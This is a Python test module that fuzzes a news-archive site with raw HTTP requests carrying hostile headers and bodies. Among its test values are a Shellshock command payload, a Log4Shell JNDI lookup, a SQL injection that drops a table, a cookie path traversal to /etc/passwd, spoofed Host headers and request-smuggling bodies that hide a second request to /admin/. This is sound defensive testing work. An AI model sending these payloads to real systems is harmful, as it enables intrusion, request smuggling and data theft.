"""Makes requests with hostile headers, as the bytes that go to the server."""

from collections.abc import Iterator
from dataclasses import dataclass
from random import Random

from tests.hostile.hostile_request import VISITORS_HOST, random_of
from tests.hostile.odd_text import MARKUP, SYNTAX, odd_number, odd_text

HOST = "archive.example.org"
"""The host name of the site."""

PLAIN = (("Host", HOST), ("X-Forwarded-Proto", "https"), ("X-Forwarded-For", "192.0.2.1"))
"""The headers that a front server sends."""

PATHS = (
    "/robots.txt",
    "/",
    "/articles/",
    "/articles/?q=factory&place=pyongyang",
    "/articles/?q=%EA%B5%AC%EC%9E%A5",
    "/articles/feed/",
    "/articles/1/",
    "/articles/1/another-title/",
    "/articles",
    "/sources/",
    "/people/?find=kim",
    "/search-help/",
    "/no-such-page/",
    "/articles/?sort=best",
    "/static/no-such-file.css",
    "/static/img/favicon.svg",
)

_HOSTS = (
    VISITORS_HOST,
    f"{VISITORS_HOST}:99",
    f"{HOST}:99",
    f"{HOST}:https",
    f"{HOST}.",
    HOST.upper(),
    f"{HOST}.{VISITORS_HOST}",
    f"{VISITORS_HOST}#{HOST}",
    f"{HOST}@{VISITORS_HOST}",
    f"{HOST},{VISITORS_HOST}",
    f"{HOST}/{VISITORS_HOST}",
    f"{HOST}:80@{VISITORS_HOST}",
    "127.0.0.1",
    "[::1]",
    "[::1",
    "localhost",
    ".",
    "",
    f" {HOST}",
)
_PLACES = ("/evil-zq7", "/articles", "//", "/", f"https://{VISITORS_HOST}/", "/../", "evil-zq7")
_ADDRESSES = (
    *("127.0.0.1", "10.9.9.9", "::1", "[::1]:99", "unknown", "_hidden", "1.2.3.4, 5.6.7.8", ", ,"),
    *("999.999.999.999", "localhost", "1.2.3.4:zq7", "'; DROP TABLE axes_accessattempt; --"),
)
_METHODS = ("POST", "DELETE", "HEAD", "TRACE", "CONNECT", "get", "", "Ä")
_TYPES = (
    *("text/plain; charset=utf-16", "text/html; charset=hex", "a/b; charset=no-such-encoding"),
    *("text/plain; charset*=utf-7'en'x", "multipart/form-data; boundary=", "multipart/form-data"),
    *("multipart/form-data; boundary=x; charset=rot13", "application/json", ";", "application/"),
    *("application/x-www-form-urlencoded; charset=idna", 'text/plain; charset="', "text/plain;;;;"),
)
_ACCEPTED = (
    *(
        "*/*",
        "text/html;q=0.1",
        "application/json",
        "gzip",
        "br",
        "identity;q=0",
        "*;q=0",
        "gzip;q=",
    ),
    *(
        "ko",
        "ko-KP,en;q=0.5",
        "xx-" + "y" * 300,
        "*",
        "utf-16",
        "gzip, " * 200,
        ";q=1;q=2",
        "a/b/c",
    ),
)
_LENGTHS = (
    "0",
    "00",
    "5",
    "-1",
    "+5",
    "1e3",
    "0x5",
    "5, 5",
    "5 5",
    "9" * 30,
    "²",
    "",
    "2500001",
    "٣",
)
_CODINGS = (
    *("chunked", "identity", "gzip", "chunked, identity", "gzip, chunked", "chunked, chunked"),
    *("Chunked", "xchunked", "chunked;q=1", ",", '"chunked"', "chunked\x0b"),
)
_TIMES = (
    *("Sun, 06 Nov 1994 08:49:37 GMT", "Fri, 31 Dec 9999 23:59:59 GMT", "0", "yesterday", "-1"),
    *("Sun, 99 Nov 1994 99:99:99 GMT", "Sun Nov  6 08:49:37 0000", "Thu, 01 Jan 1 00:00:00 GMT"),
)
_TAGS = ("*", "**", '""', 'W/"a"', '"a", "b"', '"', "W/", 'W/"' + "a" * 3_000 + '"', ", " * 99, "a")
_RANGES = (
    "bytes=²-",
    "bytes=٣-٥",
    "bytes=-0",
    "bytes=--5",
    "bytes=0-" + "9" * 30,
    "bytes=" + "9" * 5_000 + "-",
    "bytes=0-1," * 90,
    "bytes= 1 - 2 ",
    "bytes=1_0-2_0",
    "bytes",
    "",
    "bytes=0-9",
    "bytes=-1",
    "bytes=9-0",
    "bytes=0-0,2-2",
    "lines=1-2",
    "bytes=",
    "bytes=a-b",
)
_COOKIES = (
    *(
        "sessionid=y",
        "csrftoken=x; csrftoken=z",
        "messages=[[1]]",
        "django_language=ko",
        "=",
        ";;;;",
    ),
    *("sessionid=" + "a" * 5_000, '$Version="1"; a="b', "a=b; " * 300, "\xff=\xfe", "a b c", "{}"),
    *('messages="W1tdXQ:1"', "sessionid=../../etc/passwd", "csrftoken=\xe9", "__Host-a=b"),
)
_WORDS = (
    *("on", "off", "http", "https", "1", "0", "close", "keep-alive", "upgrade", "h2c", "websocket"),
    *("no-cache", "no-store, max-age=-1", "only-if-cached", "trailers", "max-age=99999999999999"),
    *(
        "100-continue",
        "200-ok",
        "1.1 zq7",
        "Basic eDp5",
        "Bearer a.b.c",
        "Basic",
        "Digest ,",
        "null",
    ),
)

VALUES: dict[str, tuple[str, ...]] = {
    "Host": _HOSTS,
    **dict.fromkeys(
        (
            *("X-Forwarded-Host", "X-Forwarded-Server", "X-Host", "X-Original-Host", "HTTP_HOST"),
            *("SERVER_NAME", "Server-Name", "X-Http-Host-Override", "Alt-Used", "Forwarded-Host"),
        ),
        _HOSTS,
    ),
    "Forwarded": (
        f"for=10.9.9.9;host={VISITORS_HOST};proto=http",
        f'for="[::1]";host="{VISITORS_HOST}',
        "for",
        "=;=;,,",
        "proto=" + "h" * 3_000,
    ),
    **dict.fromkeys(
        (
            *("SCRIPT_NAME", "Script-Name", "X-Script-Name", "X_SCRIPT_NAME", "HTTP_SCRIPT_NAME"),
            *("PATH_INFO", "Path-Info", "X-Forwarded-Prefix", "X-Forwarded-Path", "X-Original-URL"),
            *("X-Rewrite-URL", "REQUEST_URI", "X-Forwarded-Uri", "X-Original-URI", "Destination"),
            *(
                "X-Accel-Redirect",
                "X-Sendfile",
                "X-Envoy-Original-Path",
                "X-Replaced-Path",
                "Base-Url",
            ),
            *("QUERY_STRING", "SERVER_SOFTWARE", "DOCUMENT_ROOT", "X-Proxy-Url", "Proxy"),
        ),
        _PLACES,
    ),
    **dict.fromkeys(
        (
            *(
                "X-Forwarded-For",
                "X-Real-IP",
                "REMOTE_ADDR",
                "Client-IP",
                "X-Client-IP",
                "True-Client-IP",
            ),
            *(
                "CF-Connecting-IP",
                "X-Cluster-Client-IP",
                "X_Forwarded_For",
                "X-Remote-Addr",
                "From",
            ),
            *("X-Forwarded", "X-ProxyUser-Ip", "Via", "Max-Forwards", "REMOTE_USER", "Remote-User"),
        ),
        _ADDRESSES,
    ),
    **dict.fromkeys(
        (
            *(
                "X-Forwarded-Port",
                "SERVER_PORT",
                "Server-Port",
                "X-Forwarded-Ssl",
                "Front-End-Https",
            ),
            *(
                "X-Forwarded-Protocol",
                "X-Forwarded-Scheme",
                "X-Url-Scheme",
                "wsgi.url_scheme",
                "HTTPS",
            ),
            *(
                "X-Forwarded-Https",
                "X-Scheme",
                "Connection",
                "Keep-Alive",
                "Upgrade",
                "HTTP2-Settings",
            ),
            *("Cache-Control", "Pragma", "TE", "Trailer", "Expect", "Authorization", "Via", "DNT"),
            *("Proxy-Authorization", "Proxy-Connection", "Upgrade-Insecure-Requests", "Save-Data"),
            *(
                "Sec-WebSocket-Key",
                "Sec-Fetch-Site",
                "Sec-Fetch-Mode",
                "X-Requested-With",
                "Priority",
            ),
            *(
                "X-Forwarded-Proto",
                "Surrogate-Capability",
                "CDN-Loop",
                "Early-Data",
                "Content-Encoding",
            ),
        ),
        _WORDS,
    ),
    **dict.fromkeys(
        ("X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method", "REQUEST_METHOD"), _METHODS
    ),
    **dict.fromkeys(("Content-Type", "CONTENT_TYPE", "Content-Disposition"), _TYPES),
    **dict.fromkeys(
        ("Accept", "Accept-Encoding", "Accept-Language", "Accept-Charset", "Accept-Ranges", "A-IM"),
        _ACCEPTED,
    ),
    **dict.fromkeys(("Content-Length", "CONTENT_LENGTH", "X-Content-Length"), _LENGTHS),
    **dict.fromkeys(("Transfer-Encoding", "TRANSFER_ENCODING"), _CODINGS),
    **dict.fromkeys(("If-Modified-Since", "If-Unmodified-Since", "Date", "If-Range"), _TIMES),
    **dict.fromkeys(("If-None-Match", "If-Match", "If-Range", "ETag"), _TAGS),
    **dict.fromkeys(("Range", "Content-Range", "Request-Range"), _RANGES),
    "Cookie": _COOKIES,
    **dict.fromkeys(
        (
            "Origin",
            "Referer",
            "User-Agent",
            "Link",
            "Set-Cookie",
            "Location",
            "Status",
            "X-CSRFToken",
        ),
        (f"https://{VISITORS_HOST}", "null", "() { :; }; id", "${jndi:ldap://zq7}", *MARKUP),
    ),
}
"""Headers that mean something to a framework, a server, a proxy or a cache, with hostile values."""

_TARGETS = (
    *(f"http://{VISITORS_HOST}", f"https://{HOST}", "http://[::1", "HTTP://", f"//{VISITORS_HOST}"),
    *(
        "",
        "*",
        "a",
        "\\",
        "x:",
        "/\xff",
        "/\x00",
        "/ /",
        "/#zq7",
        f"@{VISITORS_HOST}",
        "/%",
        "/?\x7f",
    ),
)
_VERSIONS = (
    "HTTP/1.0",
    "HTTP/1.0",
    "HTTP/2.0",
    "HTTP/0.9",
    "HTTP/1.9",
    "http/1.1",
    "HTTP/1.1 ",
    "",
)


@dataclass(frozen=True, slots=True)
class RawRequest:
    """A request as bytes, and the path whose page it asks for.

    `name` is the kind of the request, the seed and the number: "headers 7.1234". `is_reading` is
    true if only the headers of the request are odd, so that the answer is the page or an error.
    """

    name: str
    path: str
    data: bytes
    is_reading: bool

    def __str__(self) -> str:
        return f"{self.name}: {self.data!r}"


def plain_request(path: str) -> bytes:
    """Return the request for a page that a front server sends."""
    return _request(f"GET {path} HTTP/1.1", [*PLAIN, ("Connection", "close")])


def hostile_headers(seed: int, count: int, first: int = 0) -> Iterator[RawRequest]:
    """Yield `count` requests with hostile headers, from number `first` on."""
    for number in range(first, first + count):
        random = random_of("headers", seed, number)
        yield _hostile(f"headers {seed}.{number}", random)


def _hostile(name: str, random: Random) -> RawRequest:
    path = random.choice(PATHS)
    headers = [*PLAIN]
    for _ in range(random.choice((1, 1, 1, 2, 3, 6))):
        header = _header(random)
        if random.random() < 0.3:  # it replaces the header of the front server
            headers = [(key, value) for key, value in headers if key.lower() != header[0].lower()]
        headers.insert(random.randint(0, len(headers)), header)
    headers = _many(headers, random)
    line, is_reading = f"GET {path} HTTP/1.1", True
    if random.random() < 0.12:
        method = random.choice(
            ("HEAD", "POST", "OPTIONS", "TRACE", "CONNECT", "Q", "get", "G\0T", "")
        )
        line, is_reading = f"{method} {path} HTTP/1.1", False
    elif random.random() < 0.08:
        target = random.choice(_TARGETS)
        version = random.choice(("HTTP/1.1", *_VERSIONS))
        line = f"GET {random.choice((target, target + path))} {version}"
        is_reading = False
    elif random.random() < 0.05:
        line = f"GET {path} {random.choice(_VERSIONS)}"
    data = _request(line, headers)
    if random.random() < 0.1:
        data = _bent(data, random)
        is_reading = False
    if random.random() < 0.15:
        data += _body(random)
    return RawRequest(name, path, data, is_reading)


def _header(random: Random) -> tuple[str, str]:
    name = random.choice(_NAMES)
    value = random.choice(VALUES[name])
    if random.random() < 0.25:
        value = random.choice(
            (
                odd_text(random).replace("\n", ""),
                odd_number(random),
                random.choice(SYNTAX),
                value + random.choice(("\0", "\x7f", "\t", "\xff", ",", ";", " ", "\x0b", "\r")),
                value * 20,
                "a" * random.choice((4_000, 8_180, 8_200, 70_000)),
                "\xc3\xa9" * 50,
            )
        )
    if random.random() < 0.2:
        name = random.choice(
            (
                name.replace("-", "_"),
                name.replace("_", "-"),
                name.upper(),
                name.lower(),
                f"HTTP_{name}",
                f"{name} ",
                f" {name}",
                f"{name}\t",
                f"X-{name}",
                f"{name}_",
                f"{name}\xe9",
                name.replace("s", "\u017f"),
                f"{name}:",
                f"{name}\0",
                "",
                "_",
                "X",
            )
        )
    return name, value


_NAMES = tuple(VALUES)


def _many(headers: list[tuple[str, str]], random: Random) -> list[tuple[str, str]]:
    way = random.random()
    if way < 0.06:
        return headers + [random.choice(headers)] * random.choice((1, 2, 50, 200))
    if way < 0.09:
        count = random.choice((20, 90, 96, 97, 98, 150, 1_000))
        return headers + [(f"X-Zq7-{number}", "a") for number in range(count)]
    return headers


def _request(line: str, headers: list[tuple[str, str]]) -> bytes:
    lines = [line, *(f"{name}: {value}" for name, value in headers)]
    text = "\r\n".join(lines) + "\r\n\r\n"
    return b"".join(
        letter.encode("latin-1") if ord(letter) < 256 else letter.encode("utf-8", "surrogatepass")
        for letter in text
    )


def _bent(data: bytes, random: Random) -> bytes:
    """Return the request with other line ends, folded lines, or bytes before or inside it."""
    place = random.randint(0, len(data))
    byte = bytes([random.randrange(256)])
    return random.choice(
        (
            data.replace(b"\r\n", b"\n"),
            data.replace(b"\r\n", b"\r"),
            data.replace(b": ", b":"),
            data.replace(b": ", b"\r\n "),
            data.replace(b"\r\n", b"\r\n\t", 2),
            data.replace(b"\r\n", b"\r\n: a\r\n", 1),
            data.replace(b"\r\n", b"\r\nzq7\r\n", 1),
            b"\r\n" * random.choice((1, 2, 9)) + data,
            b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + data,
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + data,
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + data,
            data[:place],
            data[:place] + byte + data[place:],
            data[:place] + byte * 3_000 + data[place:],
        )
    )


def _body(random: Random) -> bytes:
    """Return bytes after the headers, among them bodies in chunks and a second request."""
    hidden = b"GET /admin/ HTTP/1.1\r\nHost: " + VISITORS_HOST.encode() + b"\r\n\r\n"
    return random.choice(
        (
            b"a=b",
            b"0\r\n\r\n",
            b"5\r\nabcde\r\n0\r\n\r\n",
            b"5\r\nabcde\r\n0\r\nHost: " + VISITORS_HOST.encode() + b"\r\n\r\n",
            b"zz\r\n",
            b"-1\r\na\r\n",
            b"ffffffffffffffffff\r\na",
            b"5;" + b"a" * 9_000 + b"\r\nabcde\r\n0\r\n\r\n",
            b"0\r\n\r\n" + hidden,
            hidden,
            bytes(random.randrange(256) for _ in range(200)),
        )
    )
